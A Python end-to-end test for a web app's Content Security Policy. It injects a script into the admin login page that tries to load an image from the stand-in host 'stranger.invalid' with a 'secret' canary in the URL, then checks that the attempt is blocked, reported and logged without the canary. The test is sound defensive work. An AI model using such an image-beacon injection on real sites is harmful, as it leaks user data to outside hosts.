"""What a real browser does with our content policy: keeps it, and reports what it kept out."""

from __future__ import annotations

import time

from tests.e2e.conftest import OpenContext
from tests.e2e.site import Site
from tests.e2e.watch import Watch

STRANGER = "stranger.invalid"
INJECTED = f"""() => {{
  const picture = new Image();
  picture.src = "https://{STRANGER}/a-customers-secret.png?of=canary";
  document.body.append(picture);
}}"""
PATIENCE_SECONDS = 15.0


def test_what_the_policy_keeps_out_is_reported_and_logged_without_its_address(
    open_context: OpenContext, site: Site, watch: Watch
) -> None:
    watch.allow(f"Policy broken|Content Security Policy|violates|{STRANGER}")
    page = open_context().new_page()
    page.goto(f"{site.url}/admin/login/")
    page.evaluate(INJECTED)
    deadline = time.monotonic() + PATIENCE_SECONDS
    while f"The content policy kept {STRANGER} out (img-src)" not in site.output():
        assert time.monotonic() < deadline, site.output()[-2000:]
        page.wait_for_timeout(100)
    assert "canary" not in site.output()
